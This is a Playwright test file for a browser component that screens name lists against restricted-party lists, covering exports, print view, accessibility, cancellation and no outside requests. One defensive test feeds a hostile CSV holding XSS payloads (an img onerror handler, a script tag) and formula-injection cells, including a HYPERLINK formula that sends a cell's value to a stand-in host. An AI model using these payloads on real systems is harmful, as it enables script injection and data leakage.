// <entity-screen-batch>: a whole list screened in the browser, with exports
// a compliance officer can file. Every test checks that the page made no
// request beyond its own files.
import { test, expect } from '@playwright/test';
import { readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { resolve } from 'node:path';
import { instrument, recordRequests, standaloneFileUrl, root, axePath, violations } from './helpers.js';

const NAMES_2000 = readFileSync(resolve(root, 'tests/data/batch_2000.txt'), 'utf8');
const LINES_2000 = NAMES_2000.split('\n').filter((l, i, a) => i < a.length - 1 || l);
const COLUMNS = 'row,query,status,score,match_id,match_name,matched_name,lists,decision,note';

/** Every request was for the page itself (file://) or its own blobs. */
function onlyOwn(urls, allowed) {
  return urls.filter((u) => !allowed.some((a) => u === a || u.startsWith(a)));
}

const FILE_ALLOWED = [standaloneFileUrl, 'blob:null/', 'blob:file://', 'data:'];

async function openStandalone(page, context) {
  const problems = await instrument(page);
  const urls = recordRequests(context);
  await page.goto(standaloneFileUrl);
  return { problems, urls };
}

/** Parses RFC 4180 CSV text (the export) into records of cells. */
function parseCsv(text) {
  const records = [];
  let rec = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      rec.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rec.push(cell);
      records.push(rec);
      rec = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || rec.length) {
    rec.push(cell);
    records.push(rec);
  }
  return records;
}

async function pasteAndScreen(page, text) {
  const box = page.getByLabel(/Names, one per line/);
  await box.fill(text);
  await page.getByRole('button', { name: 'Screen the list' }).click();
}

test('pasting 2,000 names into standalone.html from file:// gives 2,000 rows in order, with progress shown', async ({ page, context }) => {
  const { problems, urls } = await openStandalone(page, context);
  await page.evaluate(() => {
    window.__progress = [];
    document.addEventListener('entity-screen-batch-progress', (e) => window.__progress.push(e.detail));
    window.__longTasks = [];
    new PerformanceObserver((list) => {
      for (const e of list.getEntries()) window.__longTasks.push(Math.round(e.duration));
    }).observe({ type: 'longtask' });
  });
  await pasteAndScreen(page, NAMES_2000);
  const bar = page.getByRole('progressbar', { name: 'Screening progress' });
  await expect(bar).toBeVisible();
  await expect(page.getByRole('status').filter({ hasText: '2,000 rows:' })).toBeVisible({ timeout: 60_000 });
  await expect(bar).toHaveAttribute('aria-valuenow', '2000');
  await expect(bar).toHaveAttribute('aria-valuemax', '2000');
  const progress = await page.evaluate(() => window.__progress);
  expect(progress.length).toBeGreaterThan(2);
  expect(progress.at(-1)).toEqual({ done: 2000, total: 2000 });
  // The page stays responsive: no main-thread task of 200 ms or more.
  expect((await page.evaluate(() => window.__longTasks)).filter((d) => d >= 200)).toEqual([]);
  const result = await page.evaluate(() => {
    const r = document.querySelector('entity-screen-batch').result;
    return { n: r.rows.length, rows: r.rows.map((x) => [x.row, x.query, x.status]), audit: r.audit };
  });
  expect(result.n).toBe(2000);
  expect(result.rows.map((r) => r[0])).toEqual(LINES_2000.map((_, i) => i + 1));
  expect(result.rows.map((r) => r[1])).toEqual(LINES_2000);
  expect(result.audit.counts.exact).toBe(900);
  // The table shows the first page, in input order, and pages through all rows.
  const firstRows = page.locator('entity-screen-batch tbody tr.esb-row');
  await expect(firstRows).toHaveCount(100);
  await expect(firstRows.first().locator('td').nth(1)).toHaveText(LINES_2000[0]);
  await expect(page.getByText('Page 1 of 20')).toBeVisible();
  expect(onlyOwn(urls, FILE_ALLOWED)).toEqual([]);
  expect(problems).toEqual([]);
  expect(await violations(page)).toEqual([]);
});

test('the CSV and JSON downloads have every row and the audit record', async ({ page, context }) => {
  const { problems, urls } = await openStandalone(page, context);
  await pasteAndScreen(page, NAMES_2000);
  await expect(page.getByRole('status').filter({ hasText: '2,000 rows:' })).toBeVisible({ timeout: 60_000 });
  // A decision on row 1 shows in both exports.
  await page.getByLabel('Decision for row 1', { exact: true }).selectOption('cleared');
  await page.getByLabel('Note for row 1', { exact: true }).fill('checked: different company');
  await page.getByLabel('Note for row 1', { exact: true }).press('Tab');

  const [csvDl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
  expect(csvDl.url()).toMatch(/^blob:/);
  expect(csvDl.suggestedFilename()).toMatch(/^pasted-list-screened-\d{4}-\d{2}-\d{2}\.csv$/);
  const csv = readFileSync(await csvDl.path(), 'utf8');
  const recs = parseCsv(csv);
  expect(recs[0].join(',')).toBe(COLUMNS);
  expect(recs.length).toBe(2001);
  expect(recs.slice(1).map((r) => r[1])).toEqual(LINES_2000);
  expect(recs[1][8]).toBe('cleared');
  expect(recs[1][9]).toBe('checked: different company');

  const [jsonDl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /Download JSON/ }).click()]);
  expect(jsonDl.url()).toMatch(/^blob:/);
  const json = JSON.parse(readFileSync(await jsonDl.path(), 'utf8'));
  expect(json.rows.length).toBe(2000);
  expect(json.rows[0].decision.value).toBe('cleared');
  const a = json.audit;
  expect(a.input).toEqual({ file: '', format: 'text', name_column: null, rows: 2000 });
  expect(a.dataset.sha256).toMatch(/^[0-9a-f]{64}$/);
  expect(a.lists.length).toBe(19);
  expect(a.lists.every((l) => l.as_of && Number.isInteger(l.count))).toBe(true);
  expect(a.threshold).toBe(0.75);
  expect(Object.values(a.counts).reduce((x, y) => x + y, 0)).toBe(2000);
  expect(a.generated_at).toMatch(/^\d{4}-\d{2}-\d{2}T/);
  expect(a.software.name).toBe('entity-screen');
  const withMatches = json.rows.find((r) => r.matches.length > 1);
  expect(withMatches.matches.every((m) => m.reasons.length > 0)).toBe(true);
  // el.toCSV() is the same text as the download.
  expect(await page.evaluate(() => document.querySelector('entity-screen-batch').toCSV())).toBe(csv);
  expect(onlyOwn(urls, FILE_ALLOWED)).toEqual([]);
  expect(problems).toEqual([]);
});

test('restoring decisions from an earlier JSON export shows them, and flags a row whose listing changed', async ({ page, context }) => {
  const { urls } = await openStandalone(page, context);
  const names = ['Mahan Air', 'Saito Tech', 'Acme Bakery of Leeds'];
  const first = await page.evaluate((n) => document.querySelector('entity-screen-batch').screen(n), names);
  const earlier = JSON.parse(JSON.stringify(first));
  earlier.rows[0].decision = { value: 'confirmed', note: 'same airline', date: '2026-11-01T10:00:00.000Z', listing: earlier.rows[0].listing };
  earlier.rows[1].decision = { value: 'cleared', note: '', date: '2026-11-01T10:00:00.000Z', listing: 'an older listing' };
  await page.evaluate((n) => document.querySelector('entity-screen-batch').screen(n), names);
  const counts = await page.evaluate((e) => document.querySelector('entity-screen-batch').restoreDecisions(e), earlier);
  expect(counts).toEqual({ restored: 2, changed: 1 });
  await expect(page.getByText('Confirmed match on 2026-11-01')).toBeVisible();
  await expect(page.getByText(/Was Cleared \(false positive\) on 2026-11-01; the listing has changed/)).toBeVisible();
  await expect(page.getByLabel('Decision for row 2', { exact: true })).toHaveValue('needs review');
  expect(onlyOwn(urls, FILE_ALLOWED)).toEqual([]);
});

test('the print view renders the audit record and every row', async ({ page, context }) => {
  const { urls } = await openStandalone(page, context);
  await page.evaluate(() => {
    window.__printed = 0;
    window.print = () => window.__printed++;
  });
  await pasteAndScreen(page, 'Mahan Air\nSaito Tech\nAcme Bakery of Leeds\n');
  await expect(page.getByRole('status').filter({ hasText: '3 rows:' })).toBeVisible({ timeout: 60_000 });
  await page.getByRole('button', { name: 'Print report' }).click();
  await expect.poll(() => page.evaluate(() => window.__printed)).toBe(1);
  await page.emulateMedia({ media: 'print' });
  const report = page.locator('entity-screen-batch .esb-report');
  await expect(report).toBeVisible();
  await expect(report.getByText('Restricted-party screening report')).toBeVisible();
  await expect(report.locator('tbody tr')).toHaveCount(3);
  await expect(report.getByText(/SDN \(as of 2026-08-20/)).toBeVisible();
  await expect(page.getByRole('button', { name: 'Screen the list' })).toBeHidden();
  await expect(page.getByRole('heading', { name: 'Restricted-party check' })).toBeHidden();
  const pdf = await page.pdf();
  expect(pdf.length).toBeGreaterThan(10_000);
  expect(onlyOwn(urls, FILE_ALLOWED)).toEqual([]);
});

test('a batch started before the details file has arrived waits for it (a row carries its listing fingerprint), then screens every row', async ({ page, context, baseURL }) => {
  const problems = await instrument(page);
  const urls = recordRequests(context);
  let release;
  const gate = new Promise((resolve) => (release = resolve));
  let held = 0;
  await context.route('**/entity-screen.details.esd.js', async (route) => {
    held++;
    await gate;
    await route.continue();
  });
  await page.goto('/index.html');
  await pasteAndScreen(page, 'Mahan Air\nAcme Bakery of Leeds\n');
  await expect.poll(() => held).toBe(1);
  // Nothing is shown as screened while the details are held.
  await page.waitForTimeout(500);
  await expect(page.getByRole('status').filter({ hasText: '2 rows:' })).toHaveCount(0);
  release();
  await expect(page.getByRole('status').filter({ hasText: '2 rows:' })).toBeVisible({ timeout: 60_000 });
  const rows = await page.evaluate(() => document.querySelector('entity-screen-batch').result.rows.map((r) => [r.query, r.status, !!r.listing]));
  expect(rows).toEqual([
    ['Mahan Air', 'exact', true],
    ['Acme Bakery of Leeds', 'no match', false],
  ]);
  expect(urls.filter((u) => u.endsWith('/entity-screen.details.esd.js'))).toEqual([`${baseURL}/entity-screen.details.esd.js`]);
  expect(problems).toEqual([]);
});

test('keyboard-only use: paste, screen, expand a row, decide, export', async ({ page, context }) => {
  const { urls } = await openStandalone(page, context);
  const box = page.getByLabel(/Names, one per line/);
  await box.focus();
  await page.keyboard.type('Mahan Air\nAcme Bakery of Leeds');
  // Tab through the file picker to the Screen button.
  let focused = '';
  for (let i = 0; i < 6 && focused !== 'Screen the list'; i++) {
    await page.keyboard.press('Tab');
    focused = await page.evaluate(() => {
      const el = document.querySelector('entity-screen-batch').shadowRoot.activeElement;
      return el ? el.textContent : '';
    });
  }
  expect(focused).toBe('Screen the list');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('status').filter({ hasText: '2 rows:' })).toBeVisible({ timeout: 60_000 });
  const expand = page.getByRole('button', { name: /Show all \d+ matches|Show the match/ }).first();
  await expand.focus();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('button', { name: 'Hide matches' })).toBeFocused();
  await expect(page.locator('entity-screen-batch .esb-reasons').first()).toBeVisible();
  await page.keyboard.press('Tab');
  await expect(page.getByLabel('Decision for row 1', { exact: true })).toBeFocused();
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Tab');
  await expect(page.getByLabel('Note for row 1', { exact: true })).toBeFocused();
  const decision = await page.evaluate(() => document.querySelector('entity-screen-batch').result.rows[0].decision);
  expect(decision && decision.value).toBe('confirmed');
  const csvButton = page.getByRole('button', { name: 'Download CSV' });
  await csvButton.focus();
  const [dl] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('Enter')]);
  expect(dl.url()).toMatch(/^blob:/);
  expect(onlyOwn(urls, FILE_ALLOWED)).toEqual([]);
});

test.describe('axe-core', () => {
  test.use({ bypassCSP: true });
  test('reports no violations on the batch UI with results and an open row', async ({ page, context, baseURL }) => {
    await instrument(page);
    const urls = recordRequests(context);
    await page.goto('/index.html');
    await pasteAndScreen(page, 'Mahan Air\nSaito Tech\n\nAcme Bakery of Leeds\n');
    await expect(page.getByRole('status').filter({ hasText: '4 rows:' })).toBeVisible({ timeout: 60_000 });
    await page.getByRole('button', { name: /Show all \d+ matches|Show the match/ }).first().click();
    await page.addScriptTag({ path: axePath });
    const found = await page.evaluate(async () => {
      const r = await window.axe.run(document.querySelector('entity-screen-batch'), { resultTypes: ['violations'] });
      return r.violations.map((v) => ({ id: v.id, help: v.help, targets: v.nodes.map((n) => n.target) }));
    });
    expect(found).toEqual([]);
    const foreign = urls.filter((u) => !u.startsWith(baseURL + '/') && !u.startsWith(`blob:${baseURL}/`) && !u.startsWith('data:'));
    expect(foreign).toEqual([]);
  });
});

test('hostile CSV cells stay inert on the page, in the report and in the CSV export', async ({ page, context }) => {
  const { problems, urls } = await openStandalone(page, context);
  await page.evaluate(() => {
    window.print = () => {};
  });
  const csv = [
    'Supplier,Country',
    '"<img src=x onerror=""window.__pwned=1"">Mahan Air",IR',
    '<script>window.__pwned=2</script>,',
    '"=HYPERLINK(""https://example.org/?leak=""&A1,""click"")",',
    '+SUM(1+1),',
    '-2+3,',
    '@cmd,',
    '"\u001b[2J<b>bold</b>",',
    '"never closed,FR',
    'Saito Tech,IL',
  ].join('\n');
  await page.locator('entity-screen-batch input[type=file]').first().setInputFiles({
    name: 'hostile.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from(csv, 'utf8'),
  });
  await expect(page.getByText(/hostile\.csv: \d+ rows/)).toBeVisible();
  await expect(page.getByLabel('Column with the names')).toHaveValue('Supplier');
  await expect(page.getByLabel(/Country column/)).toHaveValue('Country');
  await page.getByRole('button', { name: 'Screen the list' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'rows:' })).toBeVisible({ timeout: 60_000 });
  const rows = await page.evaluate(() => document.querySelector('entity-screen-batch').result.rows);
  expect(rows.map((r) => r.row)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9]);
  expect(rows[0].status).toBe('no match');
  expect(rows[7].status).toBe('error');
  expect(rows[7].problem).toMatch(/broken CSV quote/);
  expect(rows[8].status).toBe('strong');
  // Shown as text, never as markup.
  const shadow = page.locator('entity-screen-batch');
  await expect(shadow.getByText('<img src=x onerror="window.__pwned=1">Mahan Air')).toBeVisible();
  await expect(shadow.getByText('<script>window.__pwned=2</script>')).toBeVisible();
  expect(await page.evaluate(() => document.querySelector('entity-screen-batch').shadowRoot.querySelectorAll('tbody img, tbody script, tbody b').length)).toBe(0);
  await page.getByRole('button', { name: 'Print report' }).click();
  expect(await page.evaluate(() => document.querySelector('entity-screen-batch').shadowRoot.querySelectorAll('.esb-report img, .esb-report script, .esb-report b').length)).toBe(0);
  await expect(page.locator('entity-screen-batch .esb-report').getByText('<script>window.__pwned=2</script>')).toBeAttached();
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  // CSV injection: no exported cell starts with = + - @.
  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()]);
  expect(dl.suggestedFilename()).toMatch(/^hostile-screened-/);
  const recs = parseCsv(readFileSync(await dl.path(), 'utf8'));
  expect(recs.length).toBe(10);
  for (const rec of recs) for (const cell of rec) expect(cell).not.toMatch(/^[=+\-@]/);
  expect(recs[3][1]).toBe('\'=HYPERLINK("https://example.org/?leak="&A1,"click")');
  expect(recs[4][1]).toBe("'+SUM(1+1)");
  expect(onlyOwn(urls, FILE_ALLOWED)).toEqual([]);
  expect(problems).toEqual([]);
});

test('an empty file, a binary file and a file with no usable column get a clear message, and the page keeps working', async ({ page, context }) => {
  const { problems, urls } = await openStandalone(page, context);
  const input = page.locator('entity-screen-batch input[type=file]').first();
  const status = page.getByRole('status');
  await input.setInputFiles({ name: 'empty.csv', mimeType: 'text/csv', buffer: Buffer.alloc(0) });
  await expect(status).toHaveText(/empty/);
  await input.setInputFiles({ name: 'photo.png', mimeType: 'image/png', buffer: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0x0d]) });
  await expect(status).toHaveText(/not text/);
  await input.setInputFiles({ name: 'amounts.csv', mimeType: 'text/csv', buffer: Buffer.from('id,amount\n1,20\n') });
  await expect(status).toHaveText(/no usable name column/);
  await pasteAndScreen(page, 'Mahan Air\n');
  await expect(status).toHaveText(/1 rows: 1 exact/);
  expect(onlyOwn(urls, FILE_ALLOWED)).toEqual([]);
  expect(problems).toEqual([]);
});

// A benchmark, not a check of speed: records how long 10,000 names take and
// the longest main-thread task (test-results/batch-perf.json); it asserts
// only that every row came back.
test('records the time to screen 10,000 names from file://', async ({ page, context }) => {
  test.setTimeout(300_000);
  const { urls } = await openStandalone(page, context);
  const names = Array.from({ length: 10_000 }, (_, i) => LINES_2000[i % LINES_2000.length]);
  const r = await page.evaluate(async (list) => {
    const el = document.querySelector('entity-screen-batch');
    await el.screen(['warm-up']);
    const tasks = [];
    new PerformanceObserver((l) => {
      for (const e of l.getEntries()) tasks.push(e.duration);
    }).observe({ type: 'longtask' });
    const t0 = performance.now();
    const res = await el.screen(list);
    const seconds = (performance.now() - t0) / 1000;
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { rows: res.rows.length, seconds, longestTaskMs: Math.max(0, ...tasks), longTasks: tasks.length };
  }, names);
  expect(r.rows).toBe(10_000);
  mkdirSync(resolve(root, 'test-results'), { recursive: true });
  writeFileSync(resolve(root, 'test-results/batch-perf.json'), JSON.stringify({ names: 10_000, ...r, namesPerSecond: Math.round(10_000 / r.seconds) }, null, 2) + '\n');
  console.log(`batch: 10,000 names in ${r.seconds.toFixed(2)} s (${Math.round(10_000 / r.seconds)} names/s); longest main-thread task ${Math.round(r.longestTaskMs)} ms`);
  expect(onlyOwn(urls, FILE_ALLOWED)).toEqual([]);
});

test('a CSV dropped on the element offers its columns, and the chosen column is screened', async ({ page, context }) => {
  const { problems, urls } = await openStandalone(page, context);
  const csv = 'id\tcompany\tcontact\n1\tMahan Air\tJane Doe\n2\tAcme Bakery of Leeds\tSaito Tech\n';
  const dt = await page.evaluateHandle((text) => {
    const d = new DataTransfer();
    d.items.add(new File([text], 'partners.tsv', { type: 'text/tab-separated-values' }));
    return d;
  }, csv);
  const dropZone = page.locator('entity-screen-batch .esb-input');
  await dropZone.dispatchEvent('dragover', { dataTransfer: dt });
  await dropZone.dispatchEvent('drop', { dataTransfer: dt });
  await expect(page.getByText('partners.tsv: 2 rows')).toBeVisible();
  const nameColumn = page.getByLabel('Column with the names');
  await expect(nameColumn).toHaveValue('company');
  await nameColumn.selectOption('contact');
  await page.getByRole('button', { name: 'Screen the list' }).click();
  await expect(page.getByRole('status').filter({ hasText: '2 rows:' })).toBeVisible({ timeout: 60_000 });
  const rows = await page.evaluate(() => document.querySelector('entity-screen-batch').result);
  expect(rows.rows.map((r) => [r.query, r.status])).toEqual([
    ['Jane Doe', 'no match'],
    ['Saito Tech', 'strong'],
  ]);
  expect(rows.audit.input).toEqual({ file: 'partners.tsv', format: 'tsv', name_column: 'contact', rows: 2 });
  expect(onlyOwn(urls, FILE_ALLOWED)).toEqual([]);
  expect(problems).toEqual([]);
});

test('cancel stops a running screen between chunks, and a file over the size limit is refused', async ({ page, context }) => {
  const { problems, urls } = await openStandalone(page, context);
  await page.evaluate(() => {
    document.addEventListener('entity-screen-batch-progress', (e) => {
      if (e.detail.done > 0 && e.detail.done < e.detail.total) {
        const root = document.querySelector('entity-screen-batch').shadowRoot;
        [...root.querySelectorAll('button')].find((b) => b.textContent === 'Cancel').click();
      }
    });
  });
  await pasteAndScreen(page, NAMES_2000);
  await expect(page.getByText(/^Cancelled after [\d,]+ of 2,000 rows\.$/)).toBeVisible({ timeout: 60_000 });
  expect(await page.evaluate(() => document.querySelector('entity-screen-batch').result)).toBeNull();
  await expect(page.getByRole('button', { name: 'Screen the list' })).toBeEnabled();
  await expect(page.getByRole('button', { name: 'Cancel' })).toBeHidden();
  const refused = await page.evaluate(async () => {
    const big = new Blob([new Uint8Array(51 * 1024 * 1024)], { type: 'text/csv' });
    try {
      await document.querySelector('entity-screen-batch').screen(big);
      return 'screened';
    } catch (e) {
      return e.message;
    }
  });
  expect(refused).toMatch(/larger than 50 MB.*entity-screen batch/);
  expect(onlyOwn(urls, FILE_ALLOWED)).toEqual([]);
  expect(problems).toEqual([]);
});
